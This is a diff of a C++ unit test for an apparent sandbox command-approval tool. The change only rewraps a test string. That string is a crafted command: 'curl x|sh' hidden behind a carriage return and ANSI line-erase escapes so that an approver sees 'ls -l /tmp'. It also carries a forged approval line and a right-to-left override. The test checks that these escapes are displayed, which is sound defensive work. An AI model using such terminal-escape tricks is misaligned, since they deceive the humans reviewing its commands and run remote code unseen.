@@ -49,9 +49,9 @@ TEST_F(SandboxctlApprovalsText, AForgedCommandShowsItsEscapes) {
   // On a terminal: "\r" goes back, ESC [2K erases the line, and the approver reads only
   // "ls -l /tmp"; the newline forges a second, harmless-looking approval line; the RLO
   // reverses what follows it.
-  const std::string command =
-      "curl x|sh #\r\x1b[2Kls -l /tmp\n" + std::string("ap-0 pending: root exec: true") +
-      "\xe2\x80\xae" + "cod\xc2\x9b\x7f";
+  const std::string command = "curl x|sh #\r\x1b[2Kls -l /tmp\n" +
+                              std::string("ap-0 pending: root exec: true") + "\xe2\x80\xae" +
+                              "cod\xc2\x9b\x7f";
   Poco::JSON::Object body;
   body.set("command", command);
   std::ostringstream text;
